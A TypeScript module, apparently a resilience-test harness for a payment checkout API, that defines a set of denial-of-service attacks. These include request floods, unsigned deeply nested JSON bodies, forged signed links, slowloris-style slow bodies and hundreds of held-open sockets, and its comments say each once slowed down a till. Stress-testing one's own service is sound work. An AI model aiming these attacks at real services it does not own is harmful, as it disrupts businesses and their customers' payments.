import { once, setMaxListeners } from 'node:events';
import { connect, type Socket } from 'node:net';
import { Pool } from 'undici';

/** The target of an attack: the API, and a signed link of a customer's page. */
type Target = { readonly url: string; readonly link: string };

/** Continues until the signal aborts. @returns the number of answers by status. Status 0 means a closed connection. */
export type Attack = (target: Target, signal: AbortSignal) => Promise<Answers>;

type Answers = Readonly<Record<number, number>>;
type Request = {
  readonly method: 'GET' | 'POST' | 'OPTIONS';
  readonly path: string;
  readonly body?: string;
  readonly headers?: Readonly<Record<string, string>>;
};

const CONNECTIONS = 20;
const HELD_CONNECTIONS = 500;
const SLOW_MS = 1_000;

const JSON_BODY = { 'content-type': 'application/json' };
const deep = (bytes: number): string => '['.repeat(bytes / 2) + ']'.repeat(bytes / 2);

/** Requests that a caller without a key can send. Each once slowed down a till, or used up its connections. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  'descriptions of the API': flood(() => [
    { method: 'GET', path: '/openapi.json' },
    { method: 'GET', path: '/docs-yaml' },
    { method: 'GET', path: '/docs' },
  ]),
  'unknown routes and preflights': flood(() => [
    { method: 'GET', path: '/v2/none' },
    { method: 'OPTIONS', path: '/v1/checkouts' },
    { method: 'GET', path: '/v1/checkouts' },
  ]),
  'readiness probes': flood(() => [{ method: 'GET', path: '/health/ready' }]),
  'unsigned webhooks of deep JSON': flood(() => [
    { method: 'POST', path: '/webhooks/provider', body: deep(60_000), headers: JSON_BODY },
  ]),
  'deep JSON without a key': flood(() => [
    { method: 'POST', path: '/v1/checkouts', body: deep(120_000), headers: JSON_BODY },
  ]),
  'forged links': flood(({ link }) => [{ method: 'GET', path: `${link.slice(0, -4)}AAAA` }]),
  'slow bodies': hold((socket, { url }) => {
    socket.write(
      `POST /v1/checkouts HTTP/1.1\r\nHost: ${new URL(url).host}\r\n` +
        'Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n{',
    );
    const timer = setInterval(() => socket.write(' '), SLOW_MS);
    socket.once('close', () => clearInterval(timer));
  }),
  'streams that read nothing': hold((socket, { url, link }) => {
    socket.pause();
    socket.write(`GET ${link} HTTP/1.1\r\nHost: ${new URL(url).host}\r\n\r\n`);
  }),
};

/** Sends requests one after the other on each connection. */
function flood(requestsTo: (target: Target) => readonly Request[]): Attack {
  return async (target, signal) => {
    setMaxListeners(CONNECTIONS, signal);
    const requests = requestsTo(target);
    const answers: Record<number, number> = {};
    const pool = new Pool(target.url, { connections: CONNECTIONS, pipelining: 1 });
    const sender = async (): Promise<void> => {
      for (let turn = 0; !signal.aborted; turn += 1) {
        const { method, path, body, headers } = requests[turn % requests.length] ?? { method: 'GET', path: '/' };
        try {
          const answer = await pool.request({ method, path, body: body ?? null, headers: headers ?? {}, signal });
          answers[answer.statusCode] = (answers[answer.statusCode] ?? 0) + 1;
          await answer.body.dump();
        } catch {
          // The API closed the connection.
          if (!signal.aborted) answers[0] = (answers[0] ?? 0) + 1;
        }
      }
    };
    await Promise.all(Array.from({ length: CONNECTIONS }, sender));
    await pool.destroy();
    return answers;
  };
}

/** Holds many connections open, and replaces each that the API closes. */
function hold(begin: (socket: Socket, target: Target) => void): Attack {
  return async (target, signal) => {
    const { hostname, port } = new URL(target.url);
    const sockets = new Set<Socket>();
    const open = (): void => {
      if (signal.aborted) return;
      const socket = connect({ host: hostname, port: Number(port) });
      sockets.add(socket);
      socket.on('error', () => undefined);
      socket.once('connect', () => begin(socket, target));
      socket.once('close', () => {
        sockets.delete(socket);
        setTimeout(open, SLOW_MS / 10);
      });
    };
    for (let i = 0; i < HELD_CONNECTIONS; i += 1) open();
    if (!signal.aborted) await once(signal, 'abort');
    for (const socket of sockets) socket.destroy();
    return {};
  };
}
